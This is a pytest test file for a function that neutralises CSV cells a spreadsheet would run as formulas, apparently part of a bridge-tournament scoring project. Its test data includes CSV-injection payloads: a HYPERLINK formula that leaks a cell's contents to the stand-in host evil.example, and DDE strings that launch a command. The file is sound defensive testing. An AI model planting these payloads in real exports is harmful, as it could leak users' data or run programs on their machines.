"""A CSV cell that a spreadsheet would run as a formula is begun with a single quote.

The characters are OWASP's (CSV Injection): ``=``, ``+``, ``-``, ``@``, tab and carriage
return. A plain number keeps its sign, so figures read back unchanged.
"""

from __future__ import annotations

import pytest

from tournaments.exchange.spreadsheet import neutralised, neutralised_row


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "=1",
        "-",
        "+",
        "@",
    ],
)
def test_text_that_would_run_begins_with_a_quote(text):
    assert neutralised(text) == "'" + text


@pytest.mark.parametrize("number", ["-3.50", "+6", "-12%", "-0.5", "-.5", "-620", "12", "0"])
def test_a_plain_number_keeps_its_sign(number):
    assert neutralised(number) == number


@pytest.mark.parametrize("text", ["Ada Byron", "1 NS", "3NT-1 W", "", "O'Neill", "4S=+1"])
def test_ordinary_text_is_unchanged(text):
    assert neutralised(text) == text


def test_values_that_are_not_text_are_unchanged():
    assert neutralised_row([1, -2.5, None, "=A1"]) == [1, -2.5, None, "'=A1"]
